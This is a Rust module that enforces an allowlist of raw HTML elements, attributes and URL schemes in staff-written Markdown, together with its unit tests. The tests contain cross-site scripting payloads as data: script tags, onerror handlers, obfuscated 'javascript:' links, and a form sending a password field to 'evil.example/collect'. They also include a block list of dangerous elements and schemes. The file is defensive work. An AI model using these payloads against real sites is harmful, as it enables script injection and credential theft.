//! The raw-HTML policy of Markdown bodies: which HTML staff may write
//! between the Markdown, and which addresses links may have.
//!
//! Markdown lets anyone write HTML, and pulldown-cmark passes it through
//! verbatim. A pasted `<script>`, an `onerror=` handler, a `javascript:`
//! link, an `<iframe>` loading from another host or a `<form>` sending
//! readers' input elsewhere would reach a public body's site. So raw HTML
//! is an allowlist: the elements in [`ALLOWED`] with the attributes named
//! there and in [`GLOBAL_ATTRIBUTES`]; addresses only with the schemes in
//! [`SAFE_SCHEMES`] (or none, for addresses on this site).
//!
//! Anything outside is an error at its Markdown line: what is known to be
//! dangerous (`markdown/unsafe-html`, `markdown/unsafe-link`) and what is
//! merely not on the list (`markdown/html-not-allowed`). Not-listed markup is
//! an error too, not a warning: a warning would still publish it, and one
//! short list is easier for staff to learn than a judgement per tag. The
//! Markdown stage leaves refused markup out of the body, so `check` and the
//! preview never see it.
//!
//! The tokenizer is lol_html (also `check`'s HTML parser): it reads tag
//! soup as browsers do, including raw text in `<script>` and `<style>`.

use std::cell::RefCell;
use std::path::Path;
use std::rc::Rc;

use lol_html::html_content::Element;
use lol_html::{HtmlRewriter, Settings, element};

use crate::diagnostics::{Code, Diagnostic};

/// Attributes every allowed element may carry.
pub const GLOBAL_ATTRIBUTES: &[&str] = &["id", "class", "lang", "dir", "title", "translate"];

/// Elements staff may write in Markdown, each with its own attributes.
pub const ALLOWED: &[(&str, &[&str])] = &[
    ("a", &["href", "hreflang", "rel"]),
    ("abbr", &[]),
    ("b", &[]),
    ("bdi", &[]),
    ("bdo", &[]),
    ("blockquote", &["cite"]),
    ("br", &[]),
    ("caption", &[]),
    ("cite", &[]),
    ("code", &[]),
    ("col", &["span"]),
    ("colgroup", &["span"]),
    ("dd", &[]),
    ("del", &["cite", "datetime"]),
    ("details", &["open"]),
    ("dfn", &[]),
    ("div", &[]),
    ("dl", &[]),
    ("dt", &[]),
    ("em", &[]),
    ("figcaption", &[]),
    ("figure", &[]),
    ("h1", &[]),
    ("h2", &[]),
    ("h3", &[]),
    ("h4", &[]),
    ("h5", &[]),
    ("h6", &[]),
    ("hr", &[]),
    ("i", &[]),
    ("img", &["src", "alt", "width", "height"]),
    ("ins", &["cite", "datetime"]),
    ("kbd", &[]),
    ("li", &["value"]),
    ("mark", &[]),
    ("ol", &["start", "reversed", "type"]),
    ("p", &[]),
    ("pre", &[]),
    ("q", &["cite"]),
    ("s", &[]),
    ("samp", &[]),
    ("small", &[]),
    ("span", &[]),
    ("strong", &[]),
    ("sub", &[]),
    ("summary", &[]),
    ("sup", &[]),
    ("table", &[]),
    ("tbody", &[]),
    ("td", &["colspan", "rowspan", "headers"]),
    ("tfoot", &[]),
    ("th", &["colspan", "rowspan", "headers", "scope", "abbr"]),
    ("thead", &[]),
    ("time", &["datetime"]),
    ("tr", &[]),
    ("u", &[]),
    ("ul", &[]),
    ("var", &[]),
    ("wbr", &[]),
];

/// Attributes that hold an address, checked by [`check_url`].
const URL_ATTRIBUTES: &[&str] = &["href", "src", "cite"];

/// Schemes a link or image may have; an address without one stays on the site.
pub const SAFE_SCHEMES: &[&str] = &["http", "https", "mailto", "tel"];

/// Schemes that run code or smuggle content in: refused as unsafe.
const UNSAFE_SCHEMES: &[&str] = &["javascript", "vbscript", "data"];

/// Elements known to be dangerous, why, and what to do instead.
const DANGEROUS: &[(&[&str], &str, &str)] = &[
    (
        &["script", "noscript"],
        "it would run a program in readers' browsers",
        "remove it; if the page needs something interactive, ask the web team to add it to the theme",
    ),
    (
        &["style"],
        "it would change the look of the whole page",
        "remove it; use Markdown for emphasis (`**fett**`, `*kursiv*`) and ask the web team for new styles",
    ),
    (
        &[
            "iframe", "frame", "frameset", "object", "embed", "applet", "portal", "audio", "video",
            "svg", "math",
        ],
        "it embeds content that can load from other hosts or run code",
        "link to the content instead, e.g. `[Video ansehen](https://…)`, or put an image file next to the page and write `![Beschreibung](bild.svg)`",
    ),
    (
        &[
            "form", "input", "button", "select", "textarea", "option", "fieldset", "label",
        ],
        "a form would send readers' input somewhere",
        "link to the association's own form instead, e.g. `[Kontaktformular](https://…)`",
    ),
    (
        &[
            "base", "meta", "link", "template", "title", "head", "body", "html",
        ],
        "it changes how the whole page is read or where its links lead",
        "remove it; the theme and the front matter set the page's metadata",
    ),
];

/// What is wrong with one piece of markup or one address.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Problem {
    pub code: Code,
    pub message: String,
    pub help: String,
}

/// A [`Problem`] at its place in the Markdown file.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Refusal {
    pub line: usize,
    pub column: usize,
    pub problem: Problem,
}

impl Refusal {
    /// The refusal as a diagnostic of the file `path`.
    pub fn at(self, path: &Path) -> Diagnostic {
        let Problem {
            code,
            message,
            help,
        } = self.problem;
        Diagnostic::error(code, path, message, help).at(self.line, self.column)
    }
}

/// Everything refused in `html`, with the byte offset in `html` it points at.
pub fn check_html(html: &str) -> Vec<(usize, Problem)> {
    let found: Rc<RefCell<Vec<(usize, Problem)>>> = Rc::default();
    let on_element = Rc::clone(&found);
    let settings =
        Settings::new().append_element_content_handler(element!("*", move |el: &mut Element| {
            on_element.borrow_mut().extend(check_element(el));
            Ok(())
        }));
    let mut rewriter = HtmlRewriter::new(settings, |_: &[u8]| {});
    let read = rewriter
        .write(html.as_bytes())
        .and_then(|()| rewriter.end());
    let mut found = std::mem::take(&mut *found.borrow_mut());
    if read.is_err() {
        // What the tokenizer cannot read cannot be judged safe.
        found.push((
            0,
            Problem {
                code: Code::MarkdownUnsafeHtml,
                message: "this HTML cannot be read reliably".into(),
                help: "write the passage in Markdown instead of HTML".into(),
            },
        ));
    }
    found
}

/// The problems of one start tag: the element, else each attribute.
fn check_element(el: &Element) -> Vec<(usize, Problem)> {
    let name = el.tag_name();
    let offset = el.source_location().bytes().start;
    if let Some(problem) = element_problem(&name) {
        return vec![(offset, problem)];
    }
    let own: &[&str] = ALLOWED
        .iter()
        .find(|(allowed, _)| *allowed == name)
        .map(|(_, attributes)| *attributes)
        .unwrap_or(&[]);
    el.attributes()
        .iter()
        .filter_map(|attribute| {
            let problem = attribute_problem(&name, own, &attribute.name(), &attribute.value())?;
            let at = attribute
                .name_source_location()
                .map(|l| l.bytes().start)
                .unwrap_or(offset);
            Some((at, problem))
        })
        .collect()
}

/// Why the element `name` may not be written, if it may not.
fn element_problem(name: &str) -> Option<Problem> {
    if let Some((_, why, help)) = DANGEROUS.iter().find(|(names, _, _)| names.contains(&name)) {
        return Some(Problem {
            code: Code::MarkdownUnsafeHtml,
            message: format!("`<{name}>` is not allowed in a page: {why}"),
            help: (*help).to_string(),
        });
    }
    if ALLOWED.iter().any(|(allowed, _)| *allowed == name) {
        return None;
    }
    Some(Problem {
        code: Code::MarkdownHtmlNotAllowed,
        message: format!("`<{name}>` is not among the HTML elements allowed in a page"),
        help: format!(
            "write it in Markdown, or use an allowed element: {}",
            ALLOWED
                .iter()
                .map(|(name, _)| *name)
                .collect::<Vec<_>>()
                .join(", ")
        ),
    })
}

/// Why the attribute `attribute="value"` may not be written on the allowed
/// element `element`, whose own attributes are `own`.
fn attribute_problem(element: &str, own: &[&str], attribute: &str, value: &str) -> Option<Problem> {
    let unsafe_attribute = |why: &str, help: &str| Problem {
        code: Code::MarkdownUnsafeHtml,
        message: format!("the attribute `{attribute}` on `<{element}>` is not allowed: {why}"),
        help: help.to_string(),
    };
    if attribute.starts_with("on") {
        return Some(unsafe_attribute(
            "it would run a program in readers' browsers",
            &format!("remove `{attribute}=…`"),
        ));
    }
    if attribute == "style" {
        return Some(unsafe_attribute(
            "styles belong to the theme (the site's security policy blocks them)",
            "remove `style=…`; use Markdown for emphasis and ask the web team for new styles",
        ));
    }
    if !own.contains(&attribute) && !GLOBAL_ATTRIBUTES.contains(&attribute) {
        let mut allowed: Vec<&str> = own.to_vec();
        allowed.extend(GLOBAL_ATTRIBUTES);
        return Some(Problem {
            code: Code::MarkdownHtmlNotAllowed,
            message: format!("the attribute `{attribute}` is not allowed on `<{element}>`"),
            help: format!("remove it; `<{element}>` may have: {}", allowed.join(", ")),
        });
    }
    if URL_ATTRIBUTES.contains(&attribute) {
        if crate::site_path::Written::of(value) == crate::site_path::Written::Climbing {
            return Some(Problem {
                code: Code::MarkdownUnsafePath,
                message: format!(
                    "`{attribute}` of `<{element}>` climbs out of this page's folder with `..`"
                ),
                help: "link other pages with `@/…` and put images next to this file, written by \
                       their name only"
                    .into(),
            });
        }
        return check_attribute_url(value).map(|mut problem| {
            problem.message = format!("`{attribute}` of `<{element}>`: {}", problem.message);
            problem
        });
    }
    None
}

/// An address written in an HTML attribute, entities not yet decoded.
/// Character codes (`&#106;`, `&colon;`) before the scheme's end hide what
/// the browser will see, so they are refused rather than decoded.
fn check_attribute_url(raw: &str) -> Option<Problem> {
    let head_end = raw.find([':', '/', '?', '#']).unwrap_or(raw.len());
    if raw[..head_end].contains('&') {
        return Some(Problem {
            code: Code::MarkdownUnsafeHtml,
            message: "the address is disguised with character codes (`&…;`)".into(),
            help: "write the address plainly, e.g. `https://www.example.org/seite`".into(),
        });
    }
    check_url(raw)
}

/// Why an address may not be linked, if it may not: a scheme outside
/// [`SAFE_SCHEMES`]. The scheme is read as browsers read it: tabs and line
/// breaks anywhere dropped, spaces and control characters around it
/// trimmed, upper and lower case alike (`JaVaScRiPt:`, `java&#x09;script:`).
pub fn check_url(url: &str) -> Option<Problem> {
    let scheme = scheme(url)?;
    if SAFE_SCHEMES.contains(&scheme.as_str()) {
        return None;
    }
    let shown = if scheme.is_empty() { ":" } else { &scheme };
    if UNSAFE_SCHEMES.contains(&scheme.as_str()) {
        return Some(Problem {
            code: Code::MarkdownUnsafeLink,
            message: format!("an address starting with `{shown}:` would run code or hide content in the link"),
            help: "link to a web address (`https://…`), an e-mail address (`mailto:…`) or another page (`@/news/….md`)".into(),
        });
    }
    Some(Problem {
        code: Code::MarkdownUnsafeLink,
        message: format!("addresses starting with `{shown}:` are not allowed"),
        help: format!(
            "use an address starting with {}, or a page of this site (`@/….md`)",
            SAFE_SCHEMES
                .iter()
                .map(|s| format!("`{s}:`"))
                .collect::<Vec<_>>()
                .join(", ")
        ),
    })
}

/// The scheme of `url` in lower case, or `None` for an address without one.
fn scheme(url: &str) -> Option<String> {
    let cleaned: String = url
        .chars()
        .filter(|c| !matches!(c, '\t' | '\n' | '\r'))
        .collect();
    let trimmed = cleaned.trim_matches(|c: char| c <= ' ');
    let end = trimmed.find([':', '/', '?', '#'])?;
    trimmed[end..]
        .starts_with(':')
        .then(|| trimmed[..end].to_ascii_lowercase())
}

/// The raw HTML of one Markdown HTML block, gathered from its lines (which
/// inside a quote or a list are not next to each other in the file).
#[derive(Debug, Default)]
pub struct HtmlBlock {
    text: String,
    /// Where each line starts: (offset in `text`, offset in the Markdown).
    starts: Vec<(usize, usize)>,
}

impl HtmlBlock {
    pub fn push(&mut self, html: &str, markdown_offset: usize) {
        self.starts.push((self.text.len(), markdown_offset));
        self.text.push_str(html);
    }

    /// Everything refused in the block, at its offset in the Markdown.
    pub fn check(&self) -> Vec<(usize, Problem)> {
        check_html(&self.text)
            .into_iter()
            .map(|(offset, problem)| {
                let index = self.starts.partition_point(|(start, _)| *start <= offset);
                let (start, markdown) = self.starts[index.saturating_sub(1)];
                (markdown + offset.saturating_sub(start), problem)
            })
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// `code@offset` of every refusal of `html`; empty when it is allowed.
    fn check(html: &str, expected: &[&str]) {
        let found: Vec<String> = check_html(html)
            .iter()
            .map(|(offset, problem)| format!("{}@{offset}", problem.code))
            .collect();
        assert_eq!(found, expected, "{html}");
    }

    #[test]
    fn allowed_markup_passes() {
        check("<abbr title=\"Onlinezugangsgesetz\">OZG</abbr>", &[]);
        check(
            "H<sub>2</sub>O, m<sup>2</sup>, <kbd>Strg</kbd>, <mark>neu</mark><br>",
            &[],
        );
        check(
            "<details open><summary>Mehr</summary><p>Text</p></details>",
            &[],
        );
        check(
            "<span lang=\"en\">hub</span><div lang=\"en\" class=\"x\">",
            &[],
        );
        check(
            "<a href=\"https://www.example.org/a?b=1&amp;c=2\">x</a>",
            &[],
        );
        check(
            "<a href=\"/presse/\">x</a> <a href=\"MAILTO:a@b.de\">y</a>",
            &[],
        );
        check(
            "<img src=\"karte.svg\" alt=\"Karte\"><!-- Kommentar -->",
            &[],
        );
        check(
            "<table><tr><th scope=\"col\">a</th><td colspan=\"2\">1</td></tr></table>",
            &[],
        );
    }

    #[test]
    fn scripts_and_styles_are_unsafe() {
        check("<script>alert(1)</script>", &["markdown/unsafe-html@0"]);
        check(
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
            &["markdown/unsafe-html@0"],
        );
        check(
            "<style>body{display:none}</style>",
            &["markdown/unsafe-html@0"],
        );
        check("<noscript><p>x</p></noscript>", &["markdown/unsafe-html@0"]);
    }

    #[test]
    fn raw_addresses_that_climb_out_of_the_folder_are_refused() {
        check(
            "<img src=\"../../x.jpg\" alt=\"x\">",
            &["markdown/unsafe-path@5"],
        );
        check(
            "<a href=\"%2e%2e/geheim/\">x</a>",
            &["markdown/unsafe-path@3"],
        );
        check("<img src=\"foto.jpg\" alt=\"x\">", &[]);
    }

    #[test]
    fn event_handlers_and_style_attributes_are_unsafe() {
        check("<img src=x onerror=alert(1)>", &["markdown/unsafe-html@11"]);
        check(
            "<span OnMouseOver=\"x()\">a</span>",
            &["markdown/unsafe-html@6"],
        );
        check("<p style=\"color:red\">a</p>", &["markdown/unsafe-html@3"]);
    }

    #[test]
    fn dangerous_addresses_in_attributes_are_unsafe() {
        check(
            "<a href=\"javascript:alert(1)\">x</a>",
            &["markdown/unsafe-link@3"],
        );
        check(
            "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
            &["markdown/unsafe-link@3"],
        );
        check(
            "<a href=\" java\tscript:alert(1)\">x</a>",
            &["markdown/unsafe-link@3"],
        );
        check(
            "<a href=\"java&#x09;script:alert(1)\">x</a>",
            &["markdown/unsafe-html@3"],
        );
        check(
            "<a href=\"&#106;avascript:alert(1)\">x</a>",
            &["markdown/unsafe-html@3"],
        );
        check(
            "<a href=\"javascript&colon;alert(1)\">x</a>",
            &["markdown/unsafe-html@3"],
        );
        check(
            "<a href=\"vbscript:msgbox\">x</a>",
            &["markdown/unsafe-link@3"],
        );
        check(
            "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\" alt=\"\">",
            &["markdown/unsafe-link@5"],
        );
        check(
            "<blockquote cite=\"file:///etc/passwd\">",
            &["markdown/unsafe-link@12"],
        );
    }

    #[test]
    fn frames_objects_and_forms_are_unsafe() {
        for html in [
            "<iframe src=\"https://www.youtube.com/embed/x\"></iframe>",
            "<frameset><frame src=x></frameset>",
            "<object data=\"x.swf\"></object>",
            "<embed src=\"x.swf\">",
            "<form action=\"https://evil.example/collect\"><input name=pw></form>",
            "<button formaction=\"https://evil.example\">Los</button>",
            "<svg><script>alert(1)</script></svg>",
            "<video src=\"https://cdn.example/v.mp4\"></video>",
        ] {
            let found = check_html(html);
            assert!(!found.is_empty(), "{html}");
            assert!(
                found
                    .iter()
                    .all(|(_, p)| p.code == Code::MarkdownUnsafeHtml),
                "{html}: {found:?}"
            );
            assert_eq!(found[0].0, 0, "{html}");
        }
    }

    #[test]
    fn page_metadata_is_unsafe() {
        check(
            "<base href=\"https://evil.example/\">",
            &["markdown/unsafe-html@0"],
        );
        check(
            "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
            &["markdown/unsafe-html@0"],
        );
        check(
            "<link rel=stylesheet href=https://cdn.example/x.css>",
            &["markdown/unsafe-html@0"],
        );
    }

    #[test]
    fn harmless_markup_off_the_list_is_not_allowed() {
        check("<center>x</center>", &["markdown/html-not-allowed@0"]);
        check("<font color=red>x</font>", &["markdown/html-not-allowed@0"]);
        check(
            "<span data-x=\"1\">x</span>",
            &["markdown/html-not-allowed@6"],
        );
        check(
            "<a href=\"/x/\" target=\"_blank\">x</a>",
            &["markdown/html-not-allowed@14"],
        );
    }

    #[test]
    fn markdown_link_addresses() {
        for fine in [
            "https://a.example",
            "HTTP://a.example",
            "/presse/",
            "@/news/a.md#x",
            "mailto:a@b.de",
            "tel:+49221",
            "#ziele",
            "bild.jpg",
            "a/b:c",
        ] {
            assert_eq!(check_url(fine), None, "{fine}");
        }
        for bad in [
            "javascript:alert(1)",
            "JaVaScRiPt:alert(1)",
            "java\tscript:x",
            "\u{1} javascript:x",
            "java\nscript:x",
            "vbscript:x",
            "data:text/html,x",
            "ftp://a.example",
            "file:///etc/passwd",
        ] {
            let problem = check_url(bad);
            assert_eq!(
                problem.map(|p| p.code),
                Some(Code::MarkdownUnsafeLink),
                "{bad:?}"
            );
        }
    }

    #[test]
    fn block_offsets_map_back_to_the_markdown() {
        let mut block = HtmlBlock::default();
        block.push("<div>\n", 10);
        block.push("<img src=x\n", 30);
        block.push("onerror=alert(1)>\n", 50);
        let found: Vec<usize> = block.check().into_iter().map(|(o, _)| o).collect();
        assert_eq!(found, [50]);
    }
}
